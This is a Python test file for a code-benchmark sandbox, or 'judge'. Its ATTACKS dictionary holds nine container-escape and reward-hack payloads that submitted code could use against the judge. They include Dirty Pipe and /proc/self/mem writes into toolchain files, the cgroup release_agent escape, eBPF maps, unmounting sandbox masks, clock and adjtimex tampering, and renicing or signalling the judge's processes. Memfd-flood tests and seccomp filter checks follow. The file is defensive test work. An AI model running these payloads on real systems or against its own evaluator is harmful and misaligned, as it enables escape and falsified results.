"""Session 36's held-out attacks (benchmarks/results/sandbox_heldout_s36.md): ten classes none of the
earlier corpora tries (tests/test_sandbox_*.py, tests/fixtures/sandbox/probe_*.py), each through ktui's
judge (ktui.repro.runner.run_request, on the CPU unless KTUI_TEST_ATTACK_DEVICE=cuda) or, for the
judge's own channel, a real sandboxed worker. Written from published container escapes and
reward-hack write-ups: userfaultfd stalls (the race-widening tool of many kernel exploits, blocked
by Docker's default profile), clock and time-namespace tricks, signals to every process it can
reach, the judge's and the reference's scheduling priority, resource limits of others (prlimit) and
its own hard limits, Dirty Pipe (CVE-2022-0847) and Dirty COW style writes into read-only toolchain
files, eBPF maps, the new mount API and unmounting its masks, the cgroup release_agent escape
(CVE-2022-0492), and memfds in flight on the judge's channel.

An attack that works puts ``S36GOT:<what>`` in its failure (the result then carries it); one that
does not returns the right answer (relu(x) * 2, tests/fixtures/repro/reference_scaled_relu.txt).
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

import pytest
from conftest import ROOT, model, needs

REPO = Path(__file__).resolve().parents[1]
DEVICE = os.environ.get("KTUI_TEST_ATTACK_DEVICE", "cpu")
MARK = "S36GOT"

# every attack's helpers: raw system calls by number, the first visible process that is not its own tree
HELPERS = r"""
import ctypes, ctypes.util, errno, json, platform, signal, struct
_lc = ctypes.CDLL(None, use_errno=True)
_X86 = platform.machine() == "x86_64"
def _sys(nr_x86, nr_arm, *args):
    _lc.syscall.restype = ctypes.c_long
    r = _lc.syscall(ctypes.c_long(nr_x86 if _X86 else nr_arm), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return r, ctypes.get_errno()
_GOT = []
def _got(what):
    _GOT.append(what)
def _own_tree():
    mine, me = set(), os.getpid()
    try:
        sid = os.getsid(0)
    except OSError:
        sid = None
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if os.getsid(int(p)) == sid:
                    mine.add(int(p))
            except OSError:
                pass
    mine.add(me)
    return mine
def _others():
    own = _own_tree()
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in own]
def _alone():
    # only its own tree in sight: the calls that reach every process of its uid (kill(-1), PRIO_USER)
    # stay inside its own PID namespace; with others in sight the attack has already got through
    return not _others()
def _own_root():
    # its root is the sandbox's own (a tmpfs it was pivoted into): unmounting there touches no host mount
    for ln in open("/proc/self/mountinfo"):
        f = ln.split()
        if f[4] == "/":
            return f[f.index("-") + 1] == "tmpfs"
    return False
def _result(x):
    if _GOT:
        raise RuntimeError("S36GOT:" + ";".join(_GOT))
    return torch.relu(x) * 2.0
"""

ATTACKS = {
    # 1. userfaultfd: a registered page that nothing ever fills, touched while the worker copies its output
    #    (the worker hangs in the middle of its reply; the judge must end it, not wait with it)
    "userfaultfd_stall": ("""
def _uffd():
    for flags in (0o4000 | 0o2000000 | 1, 0o4000 | 0o2000000):  # O_NONBLOCK|O_CLOEXEC|UFFD_USER_MODE_ONLY
        fd, e = _sys(323, 282, flags)
        if fd >= 0:
            break
    if fd < 0:
        return None
    api = struct.pack("QQQ", 0xAA, 0, 0)
    buf = ctypes.create_string_buffer(api, len(api))
    if _lc.ioctl(fd, ctypes.c_ulong(0xC018AA3F), buf) != 0:  # UFFDIO_API
        return None
    import mmap
    m = mmap.mmap(-1, 1 << 20, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    addr = ctypes.addressof(ctypes.c_char.from_buffer(m))
    reg = ctypes.create_string_buffer(struct.pack("QQQQ", addr, 1 << 20, 1, 0), 32)  # MODE_MISSING
    if _lc.ioctl(fd, ctypes.c_ulong(0xC020AA00), reg) != 0:  # UFFDIO_REGISTER
        return None
    return m
_STALL = _uffd()
""", """
if _STALL is not None:
    t = torch.frombuffer(_STALL, dtype=torch.float32, count=x.numel()).view_as(x)
    return t  # its pages fault forever when the worker reads them
return _result(x)
"""),
    # 2. clocks: the wall clock set, the host's clock rate changed (adjtimex's tick: CLOCK_MONOTONIC's rate for
    #    every process, the judge's timer included), a time namespace with a monotonic offset
    "clock_and_time_namespace": ("""
def _clocks():
    ts = struct.pack("qq", 2000000000, 0)
    if _lc.clock_settime(0, ctypes.c_char_p(ts)) == 0:
        _got("clock_settime")
    if _lc.settimeofday(ctypes.c_char_p(struct.pack("qq", 2000000000, 0)), None) == 0:
        _got("settimeofday")
    tx = ctypes.create_string_buffer(208)
    struct.pack_into("I", tx, 0, 0x4000)  # ADJ_TICK
    struct.pack_into("q", tx, 152 if _X86 else 152, 9000)  # tick: 9000 us a tick instead of 10000 (10% slower)
    r, e = _sys(159, 171, tx)
    if r >= 0:
        _got("adjtimex tick")
    struct.pack_into("I", tx, 0, 0x0002)  # ADJ_FREQUENCY
    struct.pack_into("q", tx, 16, -32768000)  # -500 ppm
    r, e = _sys(159, 171, tx)
    if r >= 0:
        _got("adjtimex frequency")
    if _lc.unshare(0x80) == 0:  # CLONE_NEWTIME
        try:
            with open("/proc/self/timens_offsets", "w") as fh:
                fh.write("monotonic 1000 0")
            _got("time namespace offsets")
        except OSError:
            _got("time namespace")
_clocks()
""", "return _result(x)\n"),
    # 3. signals: SIGSTOP to every process it may signal (kill(-1)), its process group, its parent's group and
    #    session, then SIGCONT; a process outside its own tree that accepted a signal got through
    "signals_to_every_process": ("""
def _signals():
    for p in _others():
        try:
            os.kill(p, 0)
            _got("signal to pid %d (%s)" % (p, open("/proc/%d/comm" % p).read().strip()))
        except OSError:
            pass
    if not _alone():
        return
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    for g in {os.getpgid(os.getppid()), os.getpgid(1) if os.path.exists("/proc/1") else None} - {None, os.getpgrp()}:
        try:
            os.killpg(g, signal.SIGSTOP)
            os.killpg(g, signal.SIGCONT)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGCONT)
    except OSError:
        pass
_signals()
""", """
if _alone():
    try:
        os.kill(-1, signal.SIGSTOP)
        os.kill(-1, signal.SIGCONT)
    except OSError:
        pass
return _result(x)
"""),
    # 4. priorities: every process of its uid (the judge, the reference's worker) made the slowest, and their
    #    I/O idle class; the reference slowed makes the kernel look faster
    "priority_of_the_judge_and_reference": ("""
def _nice():
    for p in _others():
        try:
            os.setpriority(0, p, 19)
            _got("reniced pid %d" % p)
        except OSError:
            pass
    if _GOT:
        return
    for which, who in ((2, 0), (2, os.getuid()), (1, 0), (1, os.getpgid(os.getppid()))):  # PRIO_USER, PRIO_PGRP
        try:
            os.setpriority(which, who, 19)
        except OSError:
            pass
    for who_kind, who in ((3, os.getuid()), (3, 0), (2, 0)):  # IOPRIO_WHO_USER, _PGRP
        _sys(251, 30, who_kind, who, (3 << 13) | 7)  # ioprio_set(which, who, IDLE class)
_nice()
""", "return _result(x)\n"),
    # 5. limits: its own hard limits raised (memory, processes, file size, descriptors), and a small address
    #    space set on every other process it can see (the reference's worker then fails: blame)
    "rlimits_raised_and_others_lowered": ("""
import resource
def _limits():
    for r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE,
              resource.RLIMIT_CORE):
        soft, hard = resource.getrlimit(r)
        if hard == resource.RLIM_INFINITY:
            continue
        try:
            resource.setrlimit(r, (soft, resource.RLIM_INFINITY))
            _got("raised hard limit %d" % r)
        except (OSError, ValueError):
            pass
    for p in _others():
        try:
            resource.prlimit(p, resource.RLIMIT_AS, (64 << 20, 64 << 20))
            _got("prlimit on pid %d" % p)
        except (OSError, ValueError):
            pass
_limits()
""", "return _result(x)\n"),
    # 6. page-cache writes into a read-only file of the toolchain (torch's version.py: the judge and the
    #    next worker read it): Dirty Pipe's splice-then-write, and a write through /proc/self/mem into a
    #    read-only private mapping of it (Dirty COW's path)
    "dirty_pipe_and_proc_mem_into_toolchain": ("""
def _page_cache():
    import mmap
    path = torch.version.__file__
    before = open(path, "rb").read()
    fd = os.open(path, os.O_RDONLY)
    r, w = os.pipe()
    os.write(w, b"x" * 65536)  # the pipe's buffers filled and drained: each carries PIPE_BUF_FLAG_CAN_MERGE
    os.read(r, 65536)
    try:
        os.splice(fd, w, 1, offset_src=0)
        os.write(w, b"S36GOT")
    except (OSError, AttributeError):
        pass
    try:
        m = mmap.mmap(fd, 0, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
        with open("/proc/self/mem", "r+b", buffering=0) as mem:
            base = int([ln for ln in open("/proc/self/maps") if path in ln][0].split("-")[0], 16)
            for _ in range(200):
                mem.seek(base)
                mem.write(b"S36GOT")
                _lc.madvise(ctypes.c_void_p(base), 4096, 4)  # MADV_DONTNEED: the private copy thrown away
        m.close()
    except (OSError, IndexError, ValueError):
        pass
    os.close(fd)
    if open(path, "rb").read() != before:
        _got("toolchain file changed")
_page_cache()
""", "return _result(x)\n"),
    # 7. eBPF: a map (the first step of every unprivileged-eBPF exploit)
    "ebpf_map": ("""
def _bpf():
    attr = ctypes.create_string_buffer(struct.pack("IIII", 2, 4, 4, 1), 128)  # ARRAY, key 4, value 4, 1 entry
    fd, e = _sys(321, 280, 0, attr, 128)  # BPF_MAP_CREATE
    if fd >= 0:
        _got("bpf map")
        os.close(fd)
_bpf()
""", "return _result(x)\n"),
    # 8. mounts: its masks unmounted (MNT_DETACH, every mount point of its root), a fresh procfs through
    #    the new mount API (fsopen / fsmount / move_mount) and mount(2), a clone of its root (open_tree)
    "unmount_masks_and_new_mount_api": ("""
def _mounts():
    if not _own_root():
        _got("not in a root of its own")
        return
    points = []
    for ln in open("/proc/self/mountinfo"):
        f = ln.split()
        points.append(f[4])
    for mp in sorted(points, key=len, reverse=True):
        if _lc.umount2(mp.encode(), 2) == 0:
            _got("unmounted " + mp)
    fd, e = _sys(430, 430, b"proc", 0)  # fsopen
    if fd >= 0:
        _got("fsopen proc")
    t, e = _sys(428, 428, -100, b"/", 1 | 0o2000000)  # open_tree(AT_FDCWD, "/", OPEN_TREE_CLONE)
    if t >= 0:
        _got("open_tree clone")
    import tempfile
    d = os.path.join(tempfile.gettempdir(), "s36p")  # its temp dir (its root is read-only)
    os.makedirs(d, exist_ok=True)
    if _lc.mount(b"proc", d.encode(), b"proc", 0, None) == 0:
        _got("mounted proc")
_mounts()
""", "return _result(x)\n"),
    # 9. cgroups (CVE-2022-0492): a release_agent or notify_on_release written, itself moved to another
    #    cgroup (out of its limits), a cgroup hierarchy mounted
    "cgroup_release_agent_and_move": ("""
def _cgroups():
    for root, dirs, files in os.walk("/sys/fs/cgroup"):
        for name in ("release_agent", "notify_on_release", "cgroup.procs", "tasks", "cgroup.subtree_control"):
            if name in files:
                p = os.path.join(root, name)
                try:  # opened for writing, nothing written: the machine's cgroups stay as they are
                    os.close(os.open(p, os.O_WRONLY))
                    _got("could write " + p)
                except OSError:
                    pass
        if len(dirs) > 50:
            dirs[:] = dirs[:50]
    if not _own_root():
        return
    import tempfile
    d = os.path.join(tempfile.gettempdir(), "s36cg")
    os.makedirs(d, exist_ok=True)
    for fs, opts in ((b"cgroup", b"memory"), (b"cgroup", b"rdma"), (b"cgroup2", None)):
        if _lc.mount(b"cgroup", d.encode(), fs, 0, opts) == 0:
            _got("mounted " + fs.decode())
_cgroups()
""", "return _result(x)\n"),
}


def _run(tmp_path, code, run_timeout=240):
    from conftest import BUILD_TIMEOUT_S

    from ktui.repro.runner import run_request

    r = {"kernel_code": code, "reference_source": (ROOT / "tests" / "fixtures" / "repro" / "reference_scaled_relu.txt").read_text(),
         "device": DEVICE, "trials": 3, "correctness_trials": 1, "checks": False,
         "build_root": str(tmp_path / "cache" / "build")}
    return run_request(r, run_timeout=run_timeout, compile_timeout=BUILD_TIMEOUT_S)


def _ioprio():
    import ctypes
    import platform

    lc = ctypes.CDLL(None, use_errno=True)
    lc.syscall.restype = ctypes.c_long
    return lc.syscall(ctypes.c_long(252 if platform.machine() == "x86_64" else 31), ctypes.c_long(1), ctypes.c_long(0))


@pytest.mark.slow
@needs("torch")
@pytest.mark.skipif(sys.platform != "linux", reason="linux system calls")
@pytest.mark.parametrize("name", list(ATTACKS))
def test_held_out_s36_through_the_judge(tmp_path, monkeypatch, name):
    monkeypatch.setenv("KTUI_CACHE_DIR", str(tmp_path / "kc"))
    pre, body = ATTACKS[name]
    import torch

    version_py = Path(torch.version.__file__).read_bytes()
    nice, ioprio = os.getpriority(os.PRIO_PROCESS, 0), _ioprio()
    res = _run(tmp_path, model(HELPERS + pre, body), run_timeout=45 if name == "userfaultfd_stall" else 240)
    text = json.dumps(res, default=str)
    assert MARK not in text, (res.get("failure") or {}).get("message")
    # the judge itself: its priority, the toolchain's files
    assert os.getpriority(os.PRIO_PROCESS, 0) == nice and _ioprio() == ioprio
    assert Path(torch.version.__file__).read_bytes() == version_py
    if name == "userfaultfd_stall":
        # the worker that hangs in its own reply is the kernel's fault (or userfaultfd is refused: right answer)
        f = res.get("failure") or {}
        assert res["status"] == "completed" and res["correctness"]["passed"] or \
            (f.get("kind") in ("timeout", "killed", "crash", "exit") and f.get("words") != "reference"), f
    else:
        assert res["status"] == "completed", res.get("failure")
        assert res["correctness"]["passed"], res.get("correctness")


# ---- the filter: the calls that only exploits use (Docker's default profile refuses them too) ---------------

def test_the_filter_refuses_ebpf_and_userfaultfd():
    import platform
    import struct

    from ktui.engine import seccomp

    prog = seccomp.seccomp_program(platform.machine())
    if prog is None:
        pytest.skip("no seccomp table for this machine")
    arch = seccomp._SECCOMP[platform.machine()]["arch"]
    nr = {"x86_64": {"bpf": 321, "userfaultfd": 323, "read": 0, "mmap": 9},
          "aarch64": {"bpf": 280, "userfaultfd": 282, "read": 63, "mmap": 222}}[platform.machine()]

    def run(call):
        data = struct.pack("<iIQ6Q", nr[call], arch, 0, *([0] * 6))
        acc, pc = 0, 0
        while True:
            code, jt, jf, k = prog[pc]
            if code == 0x20:
                acc = struct.unpack_from("<I", data, k)[0]
                pc += 1
            elif code == 0x15:
                pc += 1 + (jt if acc == k else jf)
            elif code == 0x45:
                pc += 1 + (jt if acc & k else jf)
            else:
                return {0x7FFF0000: "allow", 0x00050001: "EPERM", 0x00050026: "ENOSYS"}[k]

    assert run("bpf") == "EPERM" and run("userfaultfd") == "EPERM"
    assert run("read") == "allow" and run("mmap") == "allow"


# ---- memory in flight: charged to the tree it is attributable to, and only then (a real sandboxed worker) ----

def _worker(code, channel=None, pass_fds=(), memory_limit=256 << 20):
    sys.path.insert(0, str(REPO / "tests" / "fixtures" / "sandbox"))
    from ktui.engine import sandbox

    if not sandbox.detect()["namespaces"]:
        pytest.skip("needs user namespaces")
    import tempfile

    work = tempfile.mkdtemp(prefix="ktui-test-worker-")
    argv = [sys.executable, "-c", f"import sys; sys.path.insert(0, {str(REPO)!r}); "
            "from ktui.engine import sandbox; sandbox.enter()\n" + code]
    spec = sandbox.Spec(work, python_path=[str(REPO)], argv=argv, memory_limit=memory_limit)
    return sandbox.Launched(spec, argv, pass_fds=pass_fds, channel=channel)


def _finish(w, timeout=120):
    import subprocess

    from ktui.engine.oslib import remove_tree

    try:
        w.proc.wait(timeout=timeout)
    except subprocess.TimeoutExpired:
        pass
    w.close()
    remove_tree(w.spec.work_dir)


def _needs_free(gib):
    from ktui.engine import sandbox

    avail, _total = sandbox.host_memory()
    if avail is None or avail < gib << 30:
        pytest.skip(f"needs {gib} GiB of free memory")
    return avail


# the worker sends 768 MiB of memfds over its channel to the judge (16 MiB each, BATCH a message: 4 unread, 1 read and
# acknowledged) and closes them; the judge
# is busy elsewhere and reads nothing: in flight, in the judge's socket's queue, in no process's table
CHANNEL_FLOOD = '''
import os, socket, time
s = socket.socket(fileno=FD)
chunk = b"\\\\3" * (1 << 20)
fds = []
for i in range(48):
    fd = os.memfd_create("s36-%d" % i)
    for _ in range(16):
        os.write(fd, chunk)
    fds.append(fd)
    if len(fds) == BATCH:
        socket.send_fds(s, [b'{"id": 0}'], fds)
        for f in fds:
            os.close(f)
        fds = []
        if ACK:
            s.recv(16)
print("OUT 1", flush=True)
time.sleep(60)
'''


@pytest.mark.skipif(sys.platform != "linux", reason="linux namespaces")
def test_memfds_in_flight_on_the_judges_channel_are_the_senders():
    """Up to 768 MiB of memfds sent unsolicited on the judge's channel and closed (the tree holds 80 MiB at
    most), the judge reading nothing,
    against a 256 MiB limit: memory_limit (they waited in the judge's socket's queue: no count of the
    tree's saw them, and the run ended at the host's floor, "not judged here")."""
    from ktui.engine import protocol

    avail = _needs_free(5)
    parent, child = protocol.socketpair()
    code = CHANNEL_FLOOD.replace("FD", str(child.fileno())).replace("ACK", "False").replace("BATCH", "4")
    w = _worker(code, channel=parent, pass_fds=[child.fileno()])
    w.spec.host_memory_floor = avail - (3 << 30)
    child.close()
    try:
        _finish(w)
    finally:
        parent.close()
    # stopped at its own limit, not the host's floor; not judged here (the host's shared memory's growth
    # could be another program's: never charged to the kernel)
    assert w.limit_hit is not None and w.limit_hit[0] == "environment", (w.limit_hit, w.tail("stderr")[-500:])
    assert "judge's channel" in w.limit_hit[1] and "passed its memory limit" in w.limit_hit[1], w.limit_hit


@pytest.mark.skipif(sys.platform != "linux", reason="linux namespaces")
def test_memfds_the_judge_received_and_holds_count_against_the_sender():
    """The judge reads each message (one memfd of 16 MiB) and holds the memfds, the worker closes its own:
    768 MiB in the judge's table only, counted against the worker's 256 MiB limit, not as the judge's."""
    import threading

    from ktui.engine import protocol, shm

    _needs_free(3)
    parent, child = protocol.socketpair()
    code = CHANNEL_FLOOD.replace("FD", str(child.fileno())).replace("ACK", "True").replace("BATCH", "1")
    w = _worker(code, channel=parent, pass_fds=[child.fileno()])
    child.close()
    held: list[int] = []

    def judge():
        while len(held) < 48:
            try:
                _msg, fds = protocol.recv(parent)
            except Exception:  # noqa: BLE001 - the worker ended
                return
            held.extend(fds)
            try:
                parent.send(b"ack")
            except OSError:
                return

    t = threading.Thread(target=judge, daemon=True)
    t.start()
    try:
        _finish(w)
    finally:
        t.join(timeout=10)
        shm.close_fds(held)
        parent.close()
    assert w.limit_hit is not None and w.limit_hit[0] == "memory_limit", (w.limit_hit, len(held))
    assert "the judge holds" in w.limit_hit[1], w.limit_hit


HONEST_SOCKET = '''
import socket, time
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
a.send(b"x"); b.recv(1)  # used, then idle: nothing in flight
l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
print("OUT 1", flush=True)
time.sleep(15)
print("OUT 2", flush=True)
'''


@pytest.mark.skipif(sys.platform != "linux", reason="linux namespaces")
def test_another_programs_shared_memory_is_not_charged_to_a_tree_holding_a_socket():
    """An honest worker holds an idle socketpair of its own while another program (this test, outside the
    worker) writes 768 MiB into the host's /dev/shm: no memory_limit against its 256 MiB (the host's
    shared memory grew, but nothing waits in any queue of its sockets)."""
    import time

    _needs_free(3)
    if not os.access("/dev/shm", os.W_OK):
        pytest.skip("no writable /dev/shm on the host")
    w = _worker(HONEST_SOCKET)
    path = f"/dev/shm/ktui-s36-outside-{os.getpid()}"
    try:
        end = time.monotonic() + 120
        while "OUT 1" not in w.tail("stdout") and w.alive() and time.monotonic() < end:
            time.sleep(0.1)
        with open(path, "wb") as fh:
            for _ in range(768):
                fh.write(b"\5" * (1 << 20))
        _finish(w)
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass
    assert w.limit_hit is None, w.limit_hit
    assert "OUT 2" in w.tail("stdout"), w.tail("stderr")[-500:]


HONEST_SOCKET_BUSY = HONEST_SOCKET.replace('a.send(b"x"); b.recv(1)  # used, then idle: nothing in flight',
                                           'a.send(b"x")  # a message waits in its queue (as on a CUDA worker)')


@pytest.mark.skipif(sys.platform != "linux", reason="linux namespaces")
def test_another_programs_shared_memory_never_convicts_a_tree_with_messages_waiting():
    """As above, but a message waits in the queue of the worker's own socket (an honest CUDA worker on the
    H100 had one, and was charged 3.4 GiB of another program's 6 GiB /dev/shm growth as memory_limit):
    growth beyond ktui's counts may be its or another program's, so it stops the run as "not judged here"
    (environment), never memory_limit."""
    import time

    _needs_free(3)
    if not os.access("/dev/shm", os.W_OK):
        pytest.skip("no writable /dev/shm on the host")
    w = _worker(HONEST_SOCKET_BUSY)
    path = f"/dev/shm/ktui-s36-outside-busy-{os.getpid()}"
    try:
        end = time.monotonic() + 120
        while "OUT 1" not in w.tail("stdout") and w.alive() and time.monotonic() < end:
            time.sleep(0.1)
        with open(path, "wb") as fh:
            for _ in range(768):
                fh.write(b"\5" * (1 << 20))
        _finish(w)
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass
    assert w.limit_hit is None or w.limit_hit[0] == "environment", w.limit_hit
    if w.limit_hit:
        assert "not judged here" in w.limit_hit[1] and "passed its memory limit" in w.limit_hit[1], w.limit_hit


def test_what_counts_as_a_message_in_flight():
    """inflight.queued: a queue with a message (a zero-length datagram carrying a memfd included) or a
    listening socket; not an empty queue, a peer that closed, or a socket of another family. Nothing is
    taken off a queue, and the peeked descriptors are closed (this process's table is as before)."""
    import socket

    from ktui.engine import inflight

    before = len(os.listdir("/proc/self/fd"))
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    assert not inflight.queued(b.fileno())
    m = os.memfd_create("s36-unit")
    socket.send_fds(a, [b""], [m])
    os.close(m)
    assert inflight.queued(b.fileno()) and inflight.queued(b.fileno())  # peeked, still there
    _data, fds, _f, _addr = socket.recv_fds(b, 16, 4)
    assert len(fds) == 1
    os.close(fds[0])
    assert not inflight.queued(b.fileno())
    s1, s2 = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s1.close()
    assert not inflight.queued(s2.fileno())  # end of file: nothing waits
    st1, st2 = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    st1.send(b"x")
    assert inflight.queued(st2.fileno())
    lis = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    lis.bind("\0ktui-s36-unit-%d" % os.getpid())
    lis.listen(1)
    assert inflight.queued(lis.fileno())
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    assert not inflight.queued(tcp.fileno())
    # the same through pidfd_getfd, on this process's own sockets (the judge looks at a worker this way)
    n = inflight.tree_queued([os.getpid()])
    assert n is None or n >= 2  # st2 and the listener (None: pidfd_getfd refused here)
    for s in (a, b, s2, st1, st2, lis, tcp):
        s.close()
    assert len(os.listdir("/proc/self/fd")) == before
